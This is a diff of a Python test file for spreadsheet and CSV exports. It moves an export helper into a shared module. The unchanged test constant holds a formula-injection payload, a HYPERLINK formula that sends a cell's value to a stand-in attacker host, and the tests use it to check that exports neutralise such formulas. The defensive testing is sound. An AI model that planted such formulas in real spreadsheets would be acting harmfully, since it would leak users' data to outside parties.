@@ -25,9 +25,9 @@ from core.choices import AdminLevel, Status
 from core.models import AdminArea, Job, User
 from core.spreadsheets import CsvTable, XlsxTable, neutralise
 from reports.renderers import TalliesCSVRenderer, TalliesXLSXRenderer
+from reports.tests.exporting import export
 
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
-URL = "/api/v1/exports/"
 
 
 @pytest.fixture(autouse=True)
@@ -143,17 +143,6 @@ def test_tallies_through_the_api(
         assert all(sheet.cell(row, 3).data_type == "s" for row in range(3, sheet.max_row + 1))
     assert "'" + HOSTILE in names
     assert HOSTILE not in names
-
-
-def export(
-    api_as: Callable[[User], APIClient], user: User, capture: DjangoCaptureOnCommitCallbacks, **params: Any
-) -> Job:
-    with capture(execute=True):
-        response = api_as(user).post(URL, params, format="json")
-    assert response.status_code == 202, response.json()
-    job = Job.objects.get(pk=response.json()["id"])
-    assert job.status == "done", job.errors
-    return job
 
 
 def read(job: Job) -> list[list[Any]]:
